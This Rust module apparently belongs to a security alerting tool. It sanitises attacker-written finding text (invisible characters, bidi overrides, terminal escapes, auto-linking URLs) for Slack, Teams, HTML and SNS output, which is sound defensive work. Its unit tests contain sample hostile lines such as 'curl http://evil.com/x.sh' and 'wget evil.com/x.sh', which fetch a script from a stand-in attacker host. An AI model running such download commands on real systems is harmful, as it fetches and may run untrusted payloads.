//! Making attacker-written text safe to show.
//!
//! Every string that came from the finding goes through [`clean`] (what a
//! human sees must be what is there: no bidi overrides reordering a command
//! line, no zero-width characters hiding a word, no terminal escapes), then
//! through the escaper of the output it lands in. URLs and domains are
//! *defanged* (`hxxp://evil[.]com`) wherever a client might turn them into a
//! link: responders know the convention, and a click can never happen.

/// Characters that change how text is displayed without being visible.
fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{200B}'..='\u{200F}' // zero-width space/joiners, LRM, RLM
        | '\u{202A}'..='\u{202E}' // bidi embeddings and overrides
        | '\u{2060}'..='\u{2064}' // word joiner, invisible operators
        | '\u{2066}'..='\u{2069}' // bidi isolates
        | '\u{061C}' // Arabic letter mark
        | '\u{180E}' // Mongolian vowel separator
        | '\u{FEFF}' // BOM / zero-width no-break space
        | '\u{00AD}' // soft hyphen
        | '\u{034F}' // combining grapheme joiner
        | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}' // Hangul fillers
        | '\u{E0000}'..='\u{E007F}' // tag characters
        | '\u{2028}' | '\u{2029}' // line and paragraph separators: invisible breaks
    )
}

/// Strips invisible characters and shows control characters as escapes
/// (`\n`, `\t`, `\x1b`), so the result is one visible line.
pub fn clean(text: &str) -> String {
    if text.bytes().all(|b| (0x20..0x7f).contains(&b)) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            c if is_invisible(c) => {}
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => {
                let code = c as u32;
                if code <= 0xFF {
                    out.push_str(&format!("\\x{code:02x}"));
                } else {
                    out.push_str(&format!("\\u{{{code:x}}}"));
                }
            }
            c => out.push(c),
        }
    }
    out
}

/// Like [`clean`], but line breaks stay line breaks: for the bodies of
/// outputs that show paragraphs (AWS writes multi-line descriptions, every
/// attack sequence has one). Each line is cleaned; `\r\n` becomes `\n`;
/// runs of blank lines become one; trailing blanks go.
pub fn clean_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut blank = 0;
    for line in text.split('\n') {
        let line = clean(line.strip_suffix('\r').unwrap_or(line));
        let line = line.trim_end();
        if line.is_empty() {
            blank += 1;
            continue;
        }
        if !out.is_empty() {
            out.push_str(if blank > 0 { "\n\n" } else { "\n" });
        }
        blank = 0;
        out.push_str(line);
    }
    out
}

/// Cuts `text` to at most `max` characters, ending with `…N more` (N counts
/// the characters left out). Never splits a character.
pub fn truncate(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_string();
    }
    let total = text.chars().count();
    if total <= max {
        return text.to_string();
    }
    // The marker's length depends on N; N depends on how much we keep. Two passes settle it.
    let mut keep = max.saturating_sub(8);
    for _ in 0..3 {
        let marker = format!("…{} more", total - keep);
        let fit = max.saturating_sub(marker.chars().count());
        if fit == keep {
            break;
        }
        keep = fit;
    }
    let marker = format!("…{} more", total - keep);
    let mut out: String = text.chars().take(keep).collect();
    out.push_str(&marker);
    out
}

/// Cuts `text` to at most `max` UTF-8 bytes, for receivers that count bytes
/// (SNS, EventBridge), ending with `… (N more bytes)`. Never splits a
/// character.
pub fn truncate_bytes(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_string();
    }
    // The marker names at most text.len() left out, so this is its longest.
    let longest = format!("… ({} more bytes)", text.len()).len();
    let mut keep = max.saturating_sub(longest);
    while !text.is_char_boundary(keep) {
        keep -= 1;
    }
    format!("{}… ({} more bytes)", &text[..keep], text.len() - keep)
}

/// Cuts already-escaped text to at most `max` characters, as the receiving
/// service counts them (its limits apply to the text as sent, entities
/// included), ending with `… (N more characters)`. Never splits a character
/// or an entity (`&amp;`, `&lt;`...): the cut backs off to before it. One
/// pass; the marker counts the characters of escaped text left out.
pub fn truncate_escaped(escaped: &str, max: usize) -> String {
    if escaped.len() <= max {
        return escaped.to_string();
    }
    let total = escaped.chars().count();
    if total <= max {
        return escaped.to_string();
    }
    // The marker's width depends on N, N on the cut; N has at most as many
    // digits as `total`, so reserve that much.
    let marker = |left: usize| format!("… ({left} more characters)");
    // Too little room for the counting marker: a bare ellipsis.
    let short = marker(total).chars().count() >= max;
    let reserve = if short {
        1
    } else {
        marker(total).chars().count()
    };
    let keep = max.saturating_sub(reserve);
    let mut end = escaped
        .char_indices()
        .nth(keep)
        .map_or(escaped.len(), |(i, _)| i);
    // Inside an entity (an `&` with no `;` before the cut)? Cut before it.
    if let Some(amp) = escaped[..end].rfind('&') {
        if !escaped[amp..end].contains(';') && end - amp <= 8 {
            end = amp;
        }
    }
    let kept = &escaped[..end];
    if short {
        return format!("{kept}…");
    }
    let left = total - kept.chars().count();
    format!("{kept}{}", marker(left))
}

/// Bytes `text` takes inside a JSON string.
pub fn json_len(text: &str) -> usize {
    text.chars()
        .map(|c| match c {
            '"' | '\\' => 2,
            c if (c as u32) < 0x20 => 6,
            c => c.len_utf8(),
        })
        .sum()
}

/// Cuts escaped markdown (backslash escapes, `&amp;`) so it takes at most
/// `max` bytes inside a JSON string, never splitting an escape, a character
/// or an entity, ending with `… (N more characters)`.
pub fn cut_json_bytes(escaped: &str, max: usize) -> String {
    let total = json_len(escaped);
    if total <= max {
        return escaped.to_string();
    }
    let chars = escaped.chars().count();
    let marker_max = json_len(&format!("… ({chars} more characters)"));
    let budget = max.saturating_sub(marker_max);
    let mut used = 0;
    let mut end = 0;
    let mut units = escaped.char_indices().peekable();
    while let Some((i, c)) = units.next() {
        // One unit: a backslash with the character it escapes, or an entity.
        let mut unit_end = i + c.len_utf8();
        if c == '\\' {
            if let Some((j, n)) = units.next() {
                unit_end = j + n.len_utf8();
            }
        } else if c == '&' {
            if let Some(semi) = escaped[i..].find(';').filter(|s| *s <= 8) {
                while units.peek().is_some_and(|(j, _)| *j <= i + semi) {
                    units.next();
                }
                unit_end = i + semi + 1;
            }
        }
        let len = json_len(&escaped[i..unit_end]);
        if used + len > budget {
            break;
        }
        used += len;
        end = unit_end;
    }
    let kept = &escaped[..end];
    let left = chars - kept.chars().count();
    format!("{kept}… ({left} more characters)")
}

/// Shares `budget` JSON bytes among `pieces` fairly: small pieces keep all
/// they have, and what they leave is split among the larger ones, which are
/// cut with [`cut_json_bytes`]. Linear in the pieces' length.
pub fn fit_json_bytes(pieces: Vec<String>, budget: usize) -> Vec<String> {
    let sizes: Vec<usize> = pieces.iter().map(|p| json_len(p)).collect();
    if sizes.iter().sum::<usize>() <= budget {
        return pieces;
    }
    let mut order: Vec<usize> = (0..pieces.len()).collect();
    order.sort_by_key(|&i| sizes[i]);
    let mut allot = vec![0; pieces.len()];
    let mut left = budget;
    for (k, &i) in order.iter().enumerate() {
        let share = left / (order.len() - k);
        allot[i] = sizes[i].min(share);
        left -= allot[i];
    }
    pieces
        .into_iter()
        .zip(allot)
        .map(|(p, a)| cut_json_bytes(&p, a))
        .collect()
}

/// `http://evil.com/x` → `hxxp://evil[.]com/x`; bare domains get `[.]` too.
/// Applied to attacker text wherever a client might auto-link it.
pub fn defang(text: &str) -> String {
    if !text.contains(['.', '\u{3002}', '\u{FF0E}', '\u{FF61}']) && !text.contains("://") {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 8);
    let mut token_start = 0;
    for (i, c) in text.char_indices() {
        if c.is_whitespace() {
            defang_token(&text[token_start..i], &mut out);
            out.push(c);
            token_start = i + c.len_utf8();
        }
    }
    defang_token(&text[token_start..], &mut out);
    out
}

/// Paths (`/tmp/x.sh`, `./a.out`) keep their dots: they are not links, and
/// responders search for them verbatim. `//host/x` is not a path but a
/// scheme-relative link. Dots between letters of any script are broken
/// (`пример.рф` is a domain too), and so are the ideographic and fullwidth
/// dots that IDN resolvers read as `.`.
fn defang_token(text: &str, out: &mut String) {
    let is_path = (text.starts_with('/') && !text.starts_with("//"))
        || text.starts_with("./")
        || text.starts_with("~/")
        || text.starts_with("../");
    // Schemes are looked for only in tokens that have one: most have none.
    let lower = text.contains("://").then(|| text.to_ascii_lowercase());
    let mut i = 0;
    while i < text.len() {
        let scheme = lower.as_deref().and_then(|lower| {
            let rest = &lower[i..];
            [
                "https://", "http://", "ftp://", "file://", "ws://", "wss://",
            ]
            .into_iter()
            .find(|s| rest.starts_with(s))
        });
        if let Some(scheme) = scheme {
            let original = &text[i..i + scheme.len()];
            out.push_str(
                &original
                    .replacen(['t', 'T'], "x", 2)
                    .replacen("://", "[://]", 1),
            );
            i += scheme.len();
            continue;
        }
        let c = text[i..].chars().next().unwrap_or(' ');
        // A dot between two label characters is what makes a link: break it.
        let is_dot = matches!(c, '.' | '\u{3002}' | '\u{FF0E}' | '\u{FF61}');
        if is_dot
            && !is_path
            && text[..i]
                .chars()
                .next_back()
                .is_some_and(char::is_alphanumeric)
            && text[i + c.len_utf8()..]
                .chars()
                .next()
                .is_some_and(char::is_alphabetic)
        {
            out.push_str("[.]");
        } else {
            out.push(c);
        }
        i += c.len_utf8();
    }
}

/// Slack mrkdwn: the three characters Slack requires escaped. With them gone,
/// `<!channel>`, `<@U123>` and `<http://x|click>` are plain text.
pub fn slack_escape(text: &str) -> String {
    if !text.contains(['&', '<', '>']) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

/// Attacker text as Slack inline code: defanged, escaped, with backticks
/// replaced so it cannot close the code span, then cut so the whole span
/// (backticks included) is at most `max` characters as Slack counts them.
pub fn slack_code(text: &str, max: usize) -> String {
    let shown = slack_escape(&defang(&clean(text))).replace('`', "ˋ");
    format!("`{}`", truncate_escaped(&shown, max.saturating_sub(2)))
}

/// Markdown as Teams renders it in Adaptive Cards' TextBlocks, which know
/// only `**bold**`, `_italic_` (or `*italic*`), `[label](url)` and lists
/// (`- `, `* `, `+ `, `1. ` at a line's start). Only those are escaped: phone
/// clients show every other backslash literally (`us\-east\-1`). `<` and `>`
/// become look-alikes no client parses as tags; `&` is an entity.
pub fn teams_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    let mut line_start = true;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' | '*' | '_' | '[' | ']' => {
                out.push('\\');
                out.push(c);
            }
            '-' | '+' if line_start => {
                out.push('\\');
                out.push(c);
            }
            '<' => out.push('‹'),
            '>' => out.push('›'),
            '&' => out.push_str("&amp;"),
            c if line_start && c.is_ascii_digit() => {
                // `12. ` starts a numbered list: escape its dot.
                out.push(c);
                while let Some(d) = chars.next_if(char::is_ascii_digit) {
                    out.push(d);
                }
                if chars.next_if_eq(&'.').is_some() {
                    out.push_str("\\.");
                }
            }
            c => out.push(c),
        }
        line_start = c == '\n' || (line_start && c == ' ');
    }
    out
}

/// HTML text and attribute content.
pub fn html_escape(text: &str) -> String {
    if !text.contains(['&', '<', '>', '"', '\'']) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// SNS subjects must be ASCII without control characters, under 100 characters.
pub fn sns_subject(text: &str) -> String {
    let ascii: String = clean(text)
        .chars()
        .map(|c| {
            if c.is_ascii() && !c.is_ascii_control() {
                c
            } else {
                '?'
            }
        })
        .collect();
    let ascii =
        ascii.trim_start_matches(|c: char| !c.is_ascii_alphanumeric() && !c.is_ascii_punctuation());
    let mut out = truncate(ascii, 99);
    if !out.is_ascii() {
        // truncate's marker uses '…'; SNS wants ASCII.
        out = out.replace('…', "~");
    }
    if out.is_empty() {
        out.push_str("gdalert");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_strips_invisible_and_shows_controls() {
        assert_eq!(clean("ab\u{202E}cd\u{200B}e"), "abcde");
        assert_eq!(clean("a\nb\x1b[31m"), "a\\nb\\x1b[31m");
        assert_eq!(clean("ok é"), "ok é");
    }

    #[test]
    fn truncate_bytes_counts_bytes_and_never_splits_a_character() {
        let text = "🙂".repeat(1000);
        for max in [40, 41, 42, 43, 100, 3999] {
            let cut = truncate_bytes(&text, max);
            assert!(cut.len() <= max, "{max}: {}", cut.len());
            assert!(cut.ends_with(" more bytes)"), "{max}: {cut}");
        }
        assert_eq!(truncate_bytes("short", 10), "short");
    }

    #[test]
    fn truncate_marks_what_it_left_out_and_respects_the_limit() {
        assert_eq!(truncate("short", 10), "short");
        let long = "x".repeat(1000);
        let cut = truncate(&long, 100);
        assert_eq!(cut.chars().count(), 100);
        let kept = cut.chars().take_while(|c| *c == 'x').count();
        assert!(cut.ends_with(&format!("…{} more", 1000 - kept)), "{cut}");
        // Multi-byte text is cut on character boundaries.
        let cut = truncate(&"é".repeat(50), 20);
        assert_eq!(cut.chars().count(), 20);
    }

    #[test]
    fn defang_breaks_links() {
        assert_eq!(
            defang("curl http://evil.com/x.sh"),
            "curl hxxp[://]evil[.]com/x[.]sh"
        );
        assert_eq!(defang("HTTPS://a.io"), "HxxPS[://]a[.]io");
        assert_eq!(defang("1.2.3.4 and v1.2"), "1.2.3.4 and v1.2");
        assert_eq!(defang("python3.11"), "python3.11");
        assert_eq!(
            defang("/tmp/.x/kworkerd /tmp/x.sh"),
            "/tmp/.x/kworkerd /tmp/x.sh"
        );
        assert_eq!(defang("wget evil.com/x.sh"), "wget evil[.]com/x[.]sh");
    }

    #[test]
    fn defang_breaks_scheme_relative_and_international_links() {
        assert_eq!(defang("//evil.example/x"), "//evil[.]example/x");
        assert_eq!(defang("curl пример.рф/a"), "curl пример[.]рф/a");
        assert_eq!(defang("evil\u{3002}example"), "evil[.]example");
        assert_eq!(defang("evil\u{FF0E}example"), "evil[.]example");
        // Paths and versions are left as they are.
        assert_eq!(
            defang("/usr/lib/x.so python3.11"),
            "/usr/lib/x.so python3.11"
        );
    }

    #[test]
    fn slack_code_cannot_mention_link_or_escape_the_span() {
        let shown = slack_code("<!channel> <@U123> <http://evil|click> `x`", 500);
        assert!(!shown.contains('<') && !shown.contains('>'), "{shown}");
        assert_eq!(shown.matches('`').count(), 2, "{shown}");
        assert!(!shown.contains("http://"), "{shown}");
    }

    #[test]
    fn slack_code_of_a_long_line_full_of_entities_stays_within_the_limit() {
        // Regression: the value was cut to the limit *before* `&`, `<`, `>`
        // became entities, so a 2,258-character command line gave a
        // 2,631-character field; Slack refused the whole alert (400).
        let line = "a&b<c>d 🙂 ".repeat(226);
        let shown = slack_code(&line, 1960);
        assert!(shown.chars().count() <= 1960, "{}", shown.chars().count());
        assert!(shown.ends_with("more characters)`"), "{shown}");
        // The cut never leaves half an entity behind.
        let body = shown.trim_matches('`');
        let before_marker = body.split("… (").next().unwrap_or_default();
        if let Some(amp) = before_marker.rfind('&') {
            assert!(before_marker[amp..].contains(';'), "{before_marker}");
        }
    }

    #[test]
    fn truncate_escaped_never_splits_an_entity() {
        for max in 20..40 {
            let cut = truncate_escaped(&"&amp;&lt;&gt;".repeat(10), max);
            assert!(cut.chars().count() <= max, "{max}: {cut}");
            let kept = cut.split('…').next().unwrap_or_default();
            assert!(
                kept.is_empty() || kept.ends_with(';'),
                "{max}: cut inside an entity: {cut}"
            );
        }
    }

    #[test]
    fn cut_json_bytes_keeps_escapes_whole_and_fits() {
        assert_eq!(
            teams_escape("us-east-1 (x) C&C v1.2"),
            "us-east-1 (x) C&amp;C v1.2"
        );
        assert_eq!(
            teams_escape("- item\n1. one\n**b** [l](u) _i_"),
            "\\- item\n1\\. one\n\\*\\*b\\*\\* \\[l\\](u) \\_i\\_"
        );
        let escaped = teams_escape(&"a*b_c\"d&e ".repeat(400));
        for max in [50usize, 51, 52, 53, 200, 1000] {
            let cut = cut_json_bytes(&escaped, max);
            assert!(json_len(&cut) <= max, "{max}: {}", json_len(&cut));
            let kept = cut.split("… (").next().unwrap_or_default();
            let trailing = kept.chars().rev().take_while(|c| *c == '\\').count();
            assert!(
                trailing % 2 == 0,
                "{max}: a lone backslash escapes the marker: {kept}"
            );
        }
        let fitted = fit_json_bytes(vec!["short".into(), escaped.clone(), escaped], 2000);
        assert_eq!(fitted[0], "short", "small pieces are kept whole");
        assert!(fitted.iter().map(|p| json_len(p)).sum::<usize>() <= 2000);
    }

    #[test]
    fn clean_lines_keeps_paragraphs_and_drops_invisible_breaks() {
        let text = "first line\r\n  - a bullet\u{2028}x\n\n\n\nlast\x1b[0m  \n";
        assert_eq!(
            clean_lines(text),
            "first line\n  - a bulletx\n\nlast\\x1b[0m"
        );
        assert_eq!(
            clean("a\u{2029}b"),
            "ab",
            "separators never reach one-line fields"
        );
    }

    #[test]
    fn sns_subject_is_ascii_and_short() {
        let s = sns_subject(&format!(
            "High Execution:Runtime/ReverseShell in {}\n",
            "é".repeat(200)
        ));
        assert!(s.is_ascii() && s.len() < 100 && !s.contains('\n'), "{s}");
    }
}
